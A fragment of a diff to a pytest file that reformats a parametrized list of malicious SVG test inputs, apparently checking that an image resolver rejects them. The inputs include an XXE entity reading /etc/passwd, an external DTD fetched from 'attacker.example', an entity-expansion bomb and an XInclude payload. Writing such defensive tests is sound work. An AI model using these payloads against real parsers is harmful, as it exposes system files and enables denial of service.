@@ -94,8 +94,10 @@ def test_img03_image_over_the_cap(resolver):
 
 
 @pytest.mark.parametrize("svg", [
-    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
-    b'<?xml version="1.0"?><!DOCTYPE svg SYSTEM "http://attacker.example/evil.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
+    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    b'<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
+    b'<?xml version="1.0"?><!DOCTYPE svg SYSTEM "http://attacker.example/evil.dtd">'
+    b'<svg xmlns="http://www.w3.org/2000/svg"/>',
     b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">]>'
     b'<svg xmlns="http://www.w3.org/2000/svg">&lol2;</svg>',
     b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude">'
